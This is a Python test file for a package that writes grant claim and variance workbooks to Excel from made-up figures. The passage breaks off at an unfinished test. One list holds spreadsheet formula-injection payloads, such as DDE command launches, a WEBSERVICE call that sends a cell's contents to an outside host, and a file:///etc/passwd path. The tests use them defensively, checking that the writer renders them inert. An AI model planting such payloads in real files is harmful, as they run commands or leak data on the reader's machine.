"""The workbooks: figures in cells, checks that recompute them, text that stays text, the same bytes every time."""

from __future__ import annotations

import hashlib
import os
import re
import subprocess
import sys
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils import range_boundaries
from spreadsheet import all_recalculated

from grantkit.errors import UnreadableError
from grantkit.workbook.award import AwardFacts
from grantkit.workbook.cells import inert, number
from grantkit.workbook.claim_return import (
    AssetLine,
    ClaimReturn,
    LeftOutKind,
    LeftOutLine,
    ReconciliationStep,
    ScheduleLine,
    StreamFigures,
    write_claim_return,
)
from grantkit.workbook.heights import TextBox
from grantkit.workbook.variance_data import (
    BridgeRow,
    CumulativePoint,
    DriverFigures,
    DriverRow,
    KindFigures,
    MonthFigures,
    OutlookFigures,
    QuarterFigures,
    VarianceReport,
    VarianceRow,
)
from grantkit.workbook.variance_report import write_variance_report

TEMPLATES = Path(__file__).resolve().parent.parent / "report_templates"
MOMENT = datetime(2024, 10, 15, 9, 30)  # noqa: DTZ001 - times of the ledger are UTC and have no zone
ZERO = Decimal("0.00")
AWARD = AwardFacts(
    "PCD 1663",
    "Static Cameras Pilot (made-up figures)",
    "Home Office",
    "Mayor's Office for Policing and Crime",
    Decimal("800000.00"),
    date(2024, 4, 1),
    date(2025, 3, 31),
)
STREAMS = (
    ("EXISTING", "Existing MPS-owned cameras", "60000.00", "90000.00"),
    ("MAY-24", "A code that looks like a date", "40000.00", "0.00"),
    ("EVAL", "Evaluation of impact on crime and social behaviour", "110000.00", "0.00"),
)

# --- a claim and a report of made-up figures --------------------------------------------------------------------


def a_line(line_id, stream="EXISTING", amount="100.00", kind="current", cost_type="resource", **changes):
    line = ScheduleLine(
        work_stream=stream,
        cost_type=cost_type,
        kind=kind,
        amount=Decimal(amount),
        line_id=line_id,
        document=f"INV-{line_id}",
        line="1",
        supplier="Panoptes Optical Systems Ltd",
        dated=date(2024, 7, 1) + timedelta(days=line_id),
        net=Decimal(amount),
        description="Static camera unit",
        po="PO-77",
        file="invoices-2024-q2.csv",
        sheet=None,
        row=line_id + 1,
        cause=None if kind == "current" else "restated in batch 4: net from 150.00 to 145.00",
    )
    return replace(line, **changes)


LINES = (
    a_line(9, "EVAL", "0.10"),
    a_line(8, "EVAL", "0.20", "late", dated=None),
    a_line(7, "MAY-24", "4999.99", "accrual"),
    a_line(6, "EXISTING", "70000.01", cost_type="capital"),
    a_line(5, "EXISTING", "-2345.67", "adjustment", net=Decimal("150.00")),
    a_line(4, "EXISTING", "5500.00", "late"),
    a_line(3, "EXISTING", "1234567.89", net=Decimal("2469135.78")),
    a_line(3, "EXISTING", "0.07", cost_type="capital"),
)


def a_stream(code, name, resource_budget, capital_budget, lines):
    def claimed(**wanted):
        of_it = [line for line in lines if line.work_stream == code]
        return sum(
            (line.amount for line in of_it if all(getattr(line, k) == v for k, v in wanted.items())), ZERO
        )

    budgets = Decimal(resource_budget), Decimal(capital_budget)
    before = Decimal("1000.10"), Decimal("0.20") if budgets[1] else ZERO
    this_claim = claimed()
    return StreamFigures(
        code=code,
        name=name,
        original=sum(budgets) - Decimal("12.34"),
        virements=Decimal("12.34"),
        budget=sum(budgets),
        resource_budget=budgets[0],
        capital_budget=budgets[1],
        claimed_before=sum(before),
        resource_before=before[0],
        capital_before=before[1],
        resource=claimed(cost_type="resource"),
        capital=claimed(cost_type="capital"),
        this_claim=this_claim,
        late=claimed(kind="late"),
        accruals=claimed(kind="accrual"),
        adjustments=claimed(kind="adjustment"),
        held_back=Decimal("0.03"),
        cumulative=sum(before) + this_claim,
        remaining=sum(budgets) - sum(before) - this_claim,
        budget_to_date=Decimal("55000.01"),
        eligible=Decimal("30000.02"),
        ineligible=Decimal("31.17"),
        variance=Decimal("24999.99"),
        forecast=sum(budgets) + Decimal("0.01"),
        full_year_variance=Decimal("-0.01"),
        rag="amber",
        needs_explaining=code != "EXISTING",
        explanation="The evaluator starts in January." if code == "EVAL" else None,
    )


def left_out(line_id, kind, amount, reason=None, **changes):
    line = LeftOutLine(
        kind=kind,
        work_stream="EVAL",
        cost_type="resource",
        reason=reason,
        amount=Decimal(amount),
        line_id=line_id,
        document=f"INV-{line_id}",
        line="1",
        supplier="Bellowsgate Catering Ltd",
        dated=date(2024, 7, 1),
        net=Decimal(amount),
        file="invoices-2024-q2.csv",
        row=line_id,
    )
    return replace(line, **changes)


LEFT_OUT = (
    left_out(9, "held-back", "0.09"),
    left_out(20, "ineligible", "31.00", "Hospitality"),
    left_out(21, "ineligible", "0.17", "Hospitality", dated=None),
)
ASSETS = (
    AssetLine(
        *("Static camera unit", "Panoptes Optical Systems Ltd", "INV-6", "1", date(2024, 7, 7)),
        *(Decimal("70000.01"), "EXISTING", "PO-77", "Croydon, mast 4", 7, None, 6),
    ),
)
LARGER = replace(AWARD, amount=Decimal("2000000.00"))


def a_claim(lines=LINES, award=LARGER, **changes):
    streams = tuple(a_stream(*stream, lines) for stream in STREAMS)
    claimable = sum(stream.cumulative + stream.held_back for stream in streams)
    claim = ClaimReturn(
        award=award,
        claim="Q2",
        version=2,
        status="draft",
        starts=date(2024, 7, 1),
        ends=date(2024, 9, 30),
        basis="accrued",
        prepared_at=MOMENT,
        prepared_by="A. Officer",
        submitted_at=None,
        submitted_by=None,
        streams=streams,
        schedule=lines,
        reconciliation=(
            ReconciliationStep(
                "Ledger total", "All invoice lines taken in, of 5 files", claimable + Decimal("41.17")
            ),
            ReconciliationStep("Ineligible", "Hospitality and entertainment", Decimal("-31.17")),
            ReconciliationStep("No work stream", None, Decimal("-10.00")),
        ),
        unallocated=Decimal("10.00"),
        left_out=("4 lines have no work stream and are not claimed.", "£0.09 is held back. " * 30),
        left_out_kinds=(
            LeftOutKind("held-back", 1, Decimal("0.09")),
            LeftOutKind("ineligible", 2, Decimal("31.17")),
            LeftOutKind("unallocated", 70_000, Decimal("10.00")),
        ),
        left_out_lines=LEFT_OUT,
        assets=ASSETS,
        asset_threshold=Decimal("2500.00"),
        lines_sha256="0a" * 32,
    )
    return replace(claim, **changes)


def a_variance_row(code, name, budget, eligible, rag):
    shares = [Decimal(budget) * share / 100 for share in (10, 30, 40, 20)]
    dated = (Decimal(eligible) - Decimal("1.11"), Decimal("1.11"), ZERO, ZERO)
    quarters = tuple(
        QuarterFigures(f"Q{i}", share.quantize(ZERO), spent, share.quantize(ZERO) - spent)
        for i, (share, spent) in enumerate(zip(shares, dated, strict=True), start=1)
    )
    return a_variance(code, name, quarters, rag)


def a_variance(code, name, quarters, rag):
    budget, to_date = sum(q.budget for q in quarters), sum(q.budget for q in quarters[:2])
    eligible = sum(q.eligible for q in quarters)
    variance, forecast = to_date - eligible, eligible + budget - to_date
    per_cent = (variance * 100 / to_date).quantize(Decimal("0.1")) if to_date else None
    return VarianceRow(
        code=code,
        name=name,
        original=budget,
        budget=budget,
        budget_to_date=to_date,
        eligible=eligible,
        accrued=ZERO,
        committed=ZERO,
        variance=variance,
        variance_pct=per_cent,
        forecast=forecast,
        full_year_variance=budget - forecast,
        rag=rag,
        reason="=1+1" if code == "EVAL" else "",
        quarters=quarters,
        months=months_like(quarters),
        kinds=(
            KindFigures(
                *("resource", budget, budget, to_date, eligible, ZERO, ZERO, variance, per_cent),
                *(forecast, budget - forecast, rag),
            ),
            KindFigures("capital", *[ZERO] * 7, None, *[ZERO] * 2, rag),
        ),
        outlook=OutlookFigures("profile", *[forecast] * 6),
        drivers=DriverFigures(timing=ZERO, price=ZERO, scope=eligible, rest=to_date),
    )


def months_like(quarters):
    """One month for each quarter; what is to come is what falls due."""
    months, profile, actual, forecast = [], ZERO, ZERO, ZERO
    for index, quarter in enumerate(quarters):
        to_come = quarter.budget if index >= 2 else ZERO
        profile, actual = profile + quarter.budget, actual + quarter.eligible
        forecast += quarter.eligible + to_come
        known, ahead = (actual, None) if index < 1 else (actual, forecast) if index < 2 else (None, forecast)
        months.append(
            MonthFigures(
                f"2024-{3 * index + 4:02}",
                *(quarter.budget, quarter.eligible, quarter.variance, to_come, profile, known, ahead),
            )
        )
    return tuple(months)


def a_report():
    rows = (
        a_variance_row("EXISTING", "Existing MPS-owned cameras", "150000.00", "61234.56", "red"),
        a_variance_row("EVAL", "Evaluation", "80000.00", "100.10", "amber"),
        a_variance_row("UNALLOCATED", "No work stream", "0.00", "9876.54", None),
    )
    by_quarter = list(zip(*(row.quarters for row in rows), strict=True))
    quarters = tuple(
        QuarterFigures(
            same[0].quarter, *(sum(getattr(q, f) for q in same) for f in ("budget", "eligible", "variance"))
        )
        for same in by_quarter
    )
    total = a_variance("TOTAL", "Total", quarters, "green")
    points, profile, actual = [], ZERO, ZERO
    for index, quarter in enumerate(quarters):
        profile, actual = profile + quarter.budget, actual + quarter.eligible
        known = actual if index < 2 else None
        ahead = None if index < 2 else profile - Decimal("0.01") if index < 3 else total.forecast
        points.append(CumulativePoint(quarter.quarter, profile, known, ahead, ahead, ahead))
    lines = tuple(
        DriverRow(row.code, "scope", "INV-1", "=cmd", date(2024, 5, 1), *[None] * 4, row.eligible, "7")
        for row in rows
    )
    return VarianceReport(
        AWARD,
        date(2024, 9, 30),
        "profile",
        rows,
        total,
        tuple(points),
        a_bridge(rows, total),
        driver_lines=lines,
    )


def a_bridge(rows, total):
    steps = [BridgeRow("Budget", total.budget, total.budget, ZERO, total.budget, None, None, ZERO)]
    for row in rows:
        change, before = row.forecast - row.budget, steps[-1].after
        base = min(before, before + change)
        over, under = (change, None) if change > 0 else (None, -change)
        steps.append(BridgeRow(row.code, change, before + change, base, None, over, under, ZERO))
    return (*steps, BridgeRow("Forecast", *[total.forecast] * 2, ZERO, total.forecast, None, None, ZERO))


def written(claim, folder, name="claim.xlsx"):
    target = folder / name
    write_claim_return(claim, target, template=TEMPLATES / "claim.xlsx", moment=MOMENT)
    return load_workbook(target)


def written_report(folder, report=None):
    target = folder / "variance.xlsx"
    write_variance_report(report or a_report(), target, template=TEMPLATES / "variance.xlsx", moment=MOMENT)
    return load_workbook(target)


def cells_named(book, name):
    """The cells that a defined name stands for, top to bottom."""
    ((title, reference),) = book.defined_names[name].destinations
    left, top, right, bottom = range_boundaries(reference.replace("$", ""))
    return [
        book[title].cell(row, column) for row in range(top, bottom + 1) for column in range(left, right + 1)
    ]


def values_named(book, name):
    return [cell.value for cell in cells_named(book, name)]


def value_named(book, name):
    (value,) = values_named(book, name)
    return value


def pounds(value):
    """A cell's number as the decimal that a reader takes it for; it must be a whole number of pennies."""
    exact = Decimal(repr(value))
    assert exact == exact.quantize(ZERO)
    return exact.quantize(ZERO)


def total_row(book, prefix, column):
    (row,) = cells_named(book, f"{prefix}_total_row")
    return row.parent.cell(row.row, cells_named(book, f"{prefix}_{column}")[0].column).value


# --- the claim --------------------------------------------------------------------------------------------------


def test_every_figure_of_a_claim_is_a_number_that_reads_back_to_the_penny(tmp_path):
    claim = a_claim()
    book = written(claim, tmp_path)
    for figure in ("original", "virements", "budget", "claimed_before", "late", "accruals", "adjustments"):
        in_cells = [pounds(value) for value in values_named(book, f"summary_{figure}")]
        assert in_cells == [getattr(stream, figure) for stream in claim.streams]
        assert pounds(total_row(book, "summary", figure)) == sum(in_cells)
    for figure in ("this_claim", "held_back", "cumulative", "remaining"):
        in_cells = [pounds(value) for value in values_named(book, f"summary_{figure}")]
        assert in_cells == [getattr(stream, figure) for stream in claim.streams]
    resource = [pounds(value) for value in values_named(book, "stream_kinds_resource_this_claim")]
    assert resource == [stream.resource for stream in claim.streams]
    capital = sum(stream.capital for stream in claim.streams)
    assert [pounds(value) for value in values_named(book, "award_kinds_this_claim")] == [
        sum(resource),
        capital,
    ]
    assert pounds(value_named(book, "claim_amount")) == claim.total == sum(resource) + capital
    assert pounds(value_named(book, "claim_unallocated")) == Decimal("10.00")
    assert value_named(book, "claim_in_words").startswith("£1,312,722.59 is claimed")


def test_the_schedule_is_in_order_and_says_where_each_line_came_from(tmp_path):
    book = written(a_claim(), tmp_path)
    shown = list(
        zip(
            *(
                values_named(book, f"schedule_{column}")
                for column in ("work_stream", "kind", "line_id", "cost_type")
            ),
            strict=True,
        )
    )
    assert shown == [
        ("EXISTING", "current", 3, "resource"),
        ("EXISTING", "current", 3, "capital"),
        ("EXISTING", "current", 6, "capital"),
        ("EXISTING", "late", 4, "resource"),
        ("EXISTING", "adjustment", 5, "resource"),
        ("MAY-24", "accrual", 7, "resource"),
        ("EVAL", "current", 9, "resource"),
        ("EVAL", "late", 8, "resource"),
    ]
    assert values_named(book, "schedule_file")[0] == "invoices-2024-q2.csv"
    assert values_named(book, "schedule_row")[0] == 4
    assert values_named(book, "schedule_date")[0].date() == date(2024, 7, 4)
    assert values_named(book, "schedule_date")[-1] is None
    assert [pounds(value) for value in values_named(book, "subtotal_amount")] == [
        Decimal("1307722.30"),
        Decimal("4999.99"),
        Decimal("0.30"),
    ]
    sheet = book["Schedule"]
    assert sheet.auto_filter.ref == "A6:O14"
    assert sheet.print_title_rows == "$1:$6"
    assert sheet.freeze_panes == "A7"


def test_the_reconciliation_ends_in_a_residual_of_nothing(tmp_path):
    claim = a_claim()
    book = written(claim, tmp_path)
    assert sum(pounds(value) for value in values_named(book, "reconciliation_amount")) == pounds(
        value_named(book, "reconciliation_claimable")
    )
    assert pounds(value_named(book, "reconciliation_this_claim")) == claim.total
    assert value_named(book, "reconciliation_residual") == 0


@pytest.mark.parametrize(
    ("changes", "banner", "header"),
    [
        ({}, "DRAFT: not submitted. Prepared on 15 October 2024, 09:30 UTC, by A. Officer", "DRAFT"),
        (
            {
                "status": "submitted",
                "submitted_at": datetime(2024, 10, 24, 15, 5, tzinfo=timezone(timedelta(hours=1))),
                "submitted_by": "B. Director",
            },
            "SUBMITTED on 24 October 2024, 14:05 UTC, by B. Director",
            "SUBMITTED",
        ),
    ],
)
def test_every_sheet_says_its_status_and_the_awards_title(tmp_path, changes, banner, header):
    book = written(a_claim(**changes), tmp_path)
    assert book.sheetnames == [
        *("Claim", "Variance", "Schedule", "Prior period", "Left out", "Reconciliation", "Assets"),
        *("Declaration", "Checks"),
    ]
    for sheet in book:
        shown = {cell.value for row in sheet.iter_rows(max_row=5) for cell in row}
        assert {banner, AWARD.title} <= shown
        assert sheet.oddHeader.right.text == header
        assert sheet.oddHeader.center.text == ("DRAFT" if header == "DRAFT" else "")
        assert sheet.oddHeader.left.text == "PCD 1663, claim Q2, version 2"
        assert sheet.oddFooter.right.text == "Page &P of &N"
        assert sheet.page_setup.orientation == "landscape"
        assert (sheet.page_setup.fitToWidth, sheet.sheet_properties.pageSetUpPr.fitToPage) == (1, True)
        assert sheet.protection.sheet


def test_only_cells_that_a_person_fills_in_and_lists_that_she_sorts_are_unlocked(tmp_path):
    book = written(a_claim(signatory="Treasurer"), tmp_path)
    unlocked = {
        (sheet.title, cell.value, cell.row)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if not cell.protection.locked
    }
    lists = {"Schedule": LINES, "Prior period": [line for line in LINES if line.cause], "Left out": LEFT_OUT}
    assert {(title, value) for title, value, _ in unlocked if title not in lists} == {("Declaration", None)}
    for title, lines in lists.items():  # Excel sorts a locked sheet only where all the cells are unlocked
        assert {row for sheet, _, row in unlocked if sheet == title} == set(range(7, 7 + len(lines)))
        assert not book[title].protection.sort
    assert value_named(book, "declaration_signatory") == "Treasurer"
    assert "claims £1,312,722.59 from the funder, Home Office" in value_named(book, "declaration_statement")


def test_a_variance_that_nobody_explained_is_marked(tmp_path):
    book = written(a_claim(), tmp_path)
    own, missing, explained = values_named(book, "standing_explanation")
    assert own is None
    assert missing.startswith("MISSING")
    assert explained == "The evaluator starts in January."
    assert values_named(book, "standing_variance_pct") == [45.5, 45.5, 45.5]


def test_prior_period_items_have_their_causes(tmp_path):
    book = written(a_claim(), tmp_path)
    assert values_named(book, "prior_kind") == ["late", "adjustment", "accrual", "late"]
    assert set(values_named(book, "prior_cause")) == {"restated in batch 4: net from 150.00 to 145.00"}
    assert pounds(total_row(book, "prior", "amount")) == Decimal("8154.52")


def test_what_is_left_out_is_listed_unless_a_sheet_cannot_hold_it(tmp_path):
    book = written(a_claim(), tmp_path)
    assert values_named(book, "left_kind") == ["held back", "not eligible", "not eligible"]
    assert values_named(book, "left_kinds_lines") == [1, 2, 70_000]
    assert values_named(book, "left_kinds_check")[2].startswith("too many to list")


def test_clauses_of_the_settings_take_the_place_of_the_templates(tmp_path):
    few = written(a_claim(declaration=("all of it is true.",)), tmp_path, "few.xlsx")
    assert [cell.value for cell in cells_named(few, "declaration_clauses")] == [
        "all of it is true.",
        *[None] * 4,
    ]
    many = written(a_claim(declaration=tuple(f"clause {i}" for i in range(30))), tmp_path, "many.xlsx")
    clauses = cells_named(many, "declaration_clauses")
    assert [cell.value for cell in clauses] == [f"clause {i}" for i in range(30)]
    assert clauses[-1].parent.cell(clauses[-1].row, 1).value == "ad)"


def test_a_nil_claim_says_so(tmp_path):
    book = written(a_claim(lines=(), left_out=()), tmp_path, "nil.xlsx")
    assert value_named(book, "claim_amount") == 0
    assert value_named(book, "claim_in_words").startswith("Nil claim")
    assert values_named(book, "schedule_amount") == [None]
    assert "nil claim" in value_named(book, "declaration_statement")


def test_a_claim_below_zero_says_that_money_is_given_back(tmp_path):
    lines = (a_line(1, amount="-1200.00", kind="adjustment"),)
    book = written(a_claim(lines=lines), tmp_path)
    assert pounds(value_named(book, "claim_amount")) == Decimal("-1200.00")
    assert value_named(book, "claim_in_words").startswith(
        "£1,200.00 is given back to the funder, Home Office"
    )
    assert "gives £1,200.00 back" in value_named(book, "declaration_statement")


# --- text -------------------------------------------------------------------------------------------------------

INJECTIONS = (
    "=1+1", "=A1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org","pay here")', "=SUM(schedule_amount)",
    '=WEBSERVICE("http://example.org/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")", "={1}", "{=1+1}", "==1",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2", "@SUM(1+1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "'=1+1", '"=1+1"', "%0A=1+1", "\uff1d1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1+1", "\x1b[31m=1+1", "\x0b",
    "_x003D_1+1", "_x000D_", "#REF!", "#N/A", "TRUE", "1E5", "00123", "12/05/2024", "http://example.org/",
    "mailto:a@example.org", "file:///etc/passwd", "\\\\server\\share", "<c><f>1+1</f></c>", "]]>&amp;",
    "[award_reference]", "&P of &N &\"Arial\"", "\ud800", "\uffff", "\U0001d7d9" * 20_000, "=" + "a" * 40_000,
)  # fmt: skip


def an_attack():
    lines = tuple(
        a_line(i, document=text, line=text, supplier=text, description=text, po=text, file=text, sheet=text)
        for i, text in enumerate(INJECTIONS)
    )
    award = replace(AWARD, reference="=1+1 & more", title='=HYPERLINK("x")', funder="+1", recipient="@A1")
    return a_claim(lines=lines, award=award, prepared_by="=cmd\x00", left_out=("=1+1",), signatory="-1")


def test_text_of_a_ledger_never_acts_as_a_formula_or_a_link(tmp_path):
    assert len(INJECTIONS) >= 40
    book = written(an_attack(), tmp_path)
    for column in ("document", "line", "supplier", "description", "po", "file", "sheet"):
        cells = cells_named(book, f"schedule_{column}")
        for cell, text in zip(cells, INJECTIONS, strict=True):
            assert cell.data_type == "s"
            assert cell.value == inert(text)
            assert cell.hyperlink is None
            assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    for name in ("award_reference", "claim_title", "award_funder", "award_recipient", "left_out_sentence"):
        assert cells_named(book, name)[0].data_type == "s"
    with zipfile.ZipFile(tmp_path / "claim.xlsx") as package:
        content = {name: package.read(name).decode() for name in package.namelist()}
    assert not any("hyperlink" in text.lower() for name, text in content.items() if name.endswith(".rels"))
    assert content["xl/worksheets/sheet1.xml"].count("=1+1 &amp;&amp; more, claim Q2") == 1


def test_what_a_cell_cannot_hold_is_replaced_visibly():
    assert inert("a\x00b\x1bc\x7f") == "a␀b␛c␡"
    assert inert("a\ud800\uffff") == "a��"
    assert inert("a\r\nb\rc\td") == "a\nb\nc\td"
    assert inert("_x000D_") == "_x005F_x000D_"
    assert inert("a" * 32_767) == "a" * 32_767
    assert inert("a" * 32_768) == "a" * 32_766 + "…"
    assert len(inert("\U0001d7d9" * 20_000).encode("utf-16-le")) <= 2 * 32_767


def test_an_amount_that_no_cell_can_hold_is_refused():
    assert number(Decimal("-0.00")) == 0
    assert str(number(Decimal("-0.00"))) == "0.0"
    assert number(Decimal("9999999999999.99")) == 9999999999999.99
    with pytest.raises(UnreadableError, match="too large"):
        number(Decimal("9999999999999999.99"))


# --- the variance report ----------------------------------------------------------------------------------------


def test_every_figure_of_the_variance_report_reads_back(tmp_path):
    report = a_report()
    book = written_report(tmp_path, report)
    for figure in ("budget", "budget_to_date", "eligible", "variance", "forecast", "full_year_variance"):
        in_cells = [pounds(value) for value in values_named(book, f"variance_{figure}")]
        assert in_cells == [getattr(row, figure) for row in report.rows]
        assert pounds(total_row(book, "variance", figure)) == getattr(report.total, figure)
    shown = values_named(book, "variance_variance_pct")
    assert [value if value is None else Decimal(repr(value)) for value in shown] == [
        row.variance_pct for row in report.rows
    ]
    assert values_named(book, "variance_rag") == ["Red", "Amber", "not rated"]
    assert values_named(book, "variance_code")[-1] == "UNALLOCATED"
    assert len(values_named(book, "quarters_budget")) == 12
    assert values_named(book, "cumulative_actual")[2:] == [None, None]
    assert value_named(book, "variance_as_at").date() == date(2024, 9, 30)
    formats = [
        str(rules.sqref) for rules in book["Variance"].conditional_formatting for rule in rules.rules
        if rule.formula == ['"Red"']
    ]  # fmt: skip
    first = cells_named(book, "variance_rag")[0].coordinate
    assert formats == [f"{first}:J14"]


def test_the_charts_are_native_and_stand_on_real_cells(tmp_path):
    book = written_report(tmp_path)
    column_chart, line_chart = book["Charts"]._charts
    expected = (
        (column_chart, "barChart", "variance_code", ["variance_budget_to_date", "variance_eligible"]),
        (
            line_chart,
            "lineChart",
            "cumulative_quarter",
            [f"cumulative_{name}" for name in ("profile", "actual", "forecast", "low", "high")],
        ),
    )
    for chart, kind, categories, values in expected:
        assert chart.tagname == kind
        assert chart.title is not None
        assert chart.x_axis.title is not None
        assert chart.y_axis.title is not None
        assert not chart.x_axis.delete
        for series, name in zip(chart.series, values, strict=True):
            assert series.val.numRef.f == book.defined_names[name].attr_text
            assert series.cat.strRef.f == book.defined_names[categories].attr_text
            kept = {point.idx: float(point.v) for point in series.val.numRef.numCache.pt}
            assert kept == {i: v for i, v in enumerate(values_named(book, name)) if v is not None}


# --- recalculated -----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def recalculated(tmp_path_factory):
    """The workbooks as written and as LibreOffice recalculates them, by file name."""
    folder = tmp_path_factory.mktemp("recalculated")
    many = tuple(a_line(i, "MAY-24", f"{i}.01") for i in range(1, 40))
    claims = {
        "full": a_claim(),
        "nil": a_claim(lines=()),
        "back": a_claim(lines=(a_line(1, amount="-1200.00", kind="adjustment"),)),
        "many": a_claim(lines=many),
        "attack": an_attack(),
        "wrong": replace(a_claim(), reconciliation=a_claim().reconciliation[:1]),
    }
    for name, claim in claims.items():
        written(claim, folder, f"{name}.xlsx")
    written_report(folder)
    sources = sorted(folder.glob("*.xlsx"))
    books = all_recalculated(sources, folder / "out")
    return {source.stem: (load_workbook(source), book) for source, book in zip(sources, books, strict=True)}


@pytest.mark.thorough
def test_recalculated_every_check_is_true_and_nothing_else_differs(recalculated):
    for name, (as_written, after) in recalculated.items():
        checks, failed = 0, set()
        for cell in (cell for sheet in as_written for row in sheet.iter_rows() for cell in row):
            found = after[cell.parent.title][cell.coordinate]
            where = f"{name}, {cell.parent.title}!{cell.coordinate}"
            if cell.data_type == "f":
                checks += 1
                assert isinstance(found.value, bool), where
                if not found.value:
                    failed.add((cell.parent.title, cell.coordinate))
            elif isinstance(cell.value, str):
                assert found.data_type == "s", where
                assert name == "attack" or found.value == cell.value, where
            else:
                assert found.value == cell.value, where
        assert checks > 30, name
        assert failed == (failing_checks(as_written) if name == "wrong" else set()), name


def failing_checks(book):
    """Where a step is missing from the reconciliation: its residual, and so the list of checks and the cover."""
    residual = cells_named(book, "checks_result")[-1]
    cells = [
        cells_named(book, name)[0]
        for name in ("reconciliation_residual_check", "all_checks", "claim_all_checks")
    ]
    return {(cell.parent.title, cell.coordinate) for cell in (residual, *cells)}


# --- the file ---------------------------------------------------------------------------------------------------

AGAIN = """
import sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
import test_workbooks as t
t.write_claim_return(t.a_claim(), Path(sys.argv[2]), template=t.TEMPLATES / "claim.xlsx", moment=t.MOMENT)
t.write_variance_report(t.a_report(), Path(sys.argv[3]), template=t.TEMPLATES / "variance.xlsx", moment=t.MOMENT)
"""


def test_the_same_figures_at_the_same_moment_are_the_same_bytes(tmp_path):
    claim, variance = tmp_path / "new" / "folder" / "claim.xlsx", tmp_path / "variance.xlsx"
    for template, target, write, data in (
        ("claim.xlsx", claim, write_claim_return, a_claim()),
        ("variance.xlsx", variance, write_variance_report, a_report()),
    ):
        digest = write(data, target, template=TEMPLATES / template, moment=MOMENT)
        assert digest == hashlib.sha256(target.read_bytes()).hexdigest()
    other = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    subprocess.run(
        [sys.executable, "-c", AGAIN, str(Path(__file__).parent), *map(str, other)],
        check=True,
        env={**os.environ, "PYTHONHASHSEED": "7", "TZ": "Asia/Tokyo"},
    )
    assert other[0].read_bytes() == claim.read_bytes()
    assert other[1].read_bytes() == variance.read_bytes()
    later = write_claim_return(
        a_claim(), claim, template=TEMPLATES / "claim.xlsx", moment=datetime(2025, 1, 1, tzinfo=UTC)
    )
    assert later != hashlib.sha256(other[0].read_bytes()).hexdigest()
    with zipfile.ZipFile(variance) as package:
        assert {entry.date_time for entry in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"2024-10-15T09:30:00Z" in package.read("docProps/core.xml")


def test_a_folder_that_cannot_be_written_is_an_error_with_a_hint(tmp_path):
    (tmp_path / "a file").write_text("no folder")
    target = tmp_path / "a file" / "claims" / "claim.xlsx"
    with pytest.raises(UnreadableError, match="cannot be written") as caught:
        written(a_claim(), target.parent)
    assert str(target) in caught.value.lines()[0]
    assert "open in Excel" in caught.value.hint
    (tmp_path / "claim.xlsx").mkdir()
    with pytest.raises(UnreadableError, match="cannot be written"):
        written(a_claim(), tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a file", "claim.xlsx"]


# --- the templates ----------------------------------------------------------------------------------------------


def changed_template(folder, change, template="claim.xlsx"):
    book = load_workbook(TEMPLATES / template)
    change(book)
    book.save(folder / template)
    return folder / template


@pytest.mark.parametrize(
    "name", ["award_reference", "schedule_first_row", "summary_budget", "summary_total_row"]
)
def test_a_template_without_a_name_is_an_error_that_names_it(tmp_path, name):
    def delete(book):
        book.defined_names[name].attr_text = "Claim!#REF!"  # as Excel leaves it when the cell is deleted

    template = changed_template(tmp_path, delete)
    with pytest.raises(UnreadableError, match=rf"no defined name {name}\b") as caught:
        write_claim_return(a_claim(), tmp_path / "out.xlsx", template=template, moment=MOMENT)
    assert "fresh copy" in caught.value.hint
    assert not (tmp_path / "out.xlsx").exists()


def test_a_template_without_its_chart_is_an_error(tmp_path):
    template = changed_template(tmp_path, lambda book: book["Charts"]._charts.pop(), "variance.xlsx")
    with pytest.raises(UnreadableError, match="no LineChart"):
        write_variance_report(a_report(), tmp_path / "out.xlsx", template=template, moment=MOMENT)


@pytest.mark.parametrize("content", [None, b"", b"rubbish"])
def test_a_template_that_is_no_workbook_is_an_error(tmp_path, content):
    template = tmp_path / "template.xlsx"
    if content is not None:
        template.write_bytes(content)
    with pytest.raises(UnreadableError, match="template") as caught:
        write_claim_return(a_claim(), tmp_path / "out.xlsx", template=template, moment=MOMENT)
    assert caught.value.hint


def test_a_restyled_template_is_followed(tmp_path):
    def restyle(book):
        names, sheet = book.defined_names, book["Schedule"]
        names["schedule_net"].attr_text, names["schedule_amount"].attr_text = (
            names["schedule_amount"].attr_text,
            names["schedule_net"].attr_text,
        )
        sheet.cell(7, 10).number_format = "0.000"
        sheet.title = "Transactions"
        for name in names.values():
            name.attr_text = name.attr_text.replace("'Schedule'!", "'Transactions'!")

    template = changed_template(tmp_path, restyle)
    write_claim_return(a_claim(), tmp_path / "out.xlsx", template=template, moment=MOMENT)
    book = load_workbook(tmp_path / "out.xlsx")
    amounts = cells_named(book, "schedule_amount")
    assert amounts[0].coordinate == "J7"
    assert {cell.number_format for cell in amounts} == {"0.000"}
    assert sum(pounds(cell.value) for cell in amounts) == a_claim().total


def test_what_stands_below_a_table_moves_down_with_it(tmp_path):
    book, before = written(a_claim(), tmp_path), load_workbook(TEMPLATES / "claim.xlsx")
    sheet, extra = book["Claim"], len(STREAMS) - 1
    assert (
        cells_named(book, "summary_total_row")[0].row
        == cells_named(before, "summary_total_row")[0].row + extra
    )
    assert len(cells_named(book, "stream_kinds_code")) == len(STREAMS)
    assert sheet.print_area.endswith(f"${sheet.max_row}")
    assert [mark.id for mark in sheet.row_breaks.brk] == [before["Claim"].row_breaks.brk[0].id + extra + 1]
    rules = {str(rules.sqref): rules.rules[0].formula[0] for rules in sheet.conditional_formatting}
    codes = cells_named(book, "stream_kinds_code")
    first, last = codes[0].row, codes[-1].row + 1
    assert rules[f"A{first}:A{last}"] == f"$O{first}=FALSE"
    sentences = cells_named(book, "left_out_sentence")
    assert {f"A{cell.row}:O{cell.row}" for cell in sentences} <= {str(m) for m in sheet.merged_cells.ranges}
    heights = [sheet.row_dimensions[cell.row].height for cell in sentences]
    assert heights[1] > 2 * heights[0]


def test_a_row_is_as_high_as_its_text():
